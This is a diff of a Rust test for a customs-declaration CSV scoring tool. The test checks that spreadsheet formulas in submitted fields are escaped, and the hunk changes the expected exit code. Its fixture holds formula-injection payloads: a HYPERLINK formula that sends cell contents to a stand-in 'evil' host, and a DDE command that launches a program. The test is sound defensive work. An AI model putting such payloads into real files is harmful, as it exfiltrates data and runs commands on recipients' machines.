@@ -214,7 +214,7 @@ fn nothing_that_declarants_write_runs_in_a_spreadsheet() {
         "declaration_id,item_no,hs,destination,mode,exporter,quantity\n\"=HYPERLINK(\"\"http://evil/\"\"&A1,\"\"x\"\")\",1,8711,\
          KE,0110,=CMD|' /C calc'!A0,1\n@D2,1,8711,KE,0110,E1,=1+1\n",
     );
-    desk.run("score d.csv --rules harbour -o out.csv --rejects rejects.csv").exits(0);
+    desk.run("score d.csv --rules harbour -o out.csv --rejects rejects.csv").exits(1);
     let (out, rejects) = (desk.read("out.csv"), desk.read("rejects.csv"));
     assert!(out.contains("\n\"'=HYPERLINK(\"\"http") && out.contains("\n'@D2,"), "{out}");
     assert!(rejects.contains(",'@D2,quantity,'=1+1,"), "{rejects}");
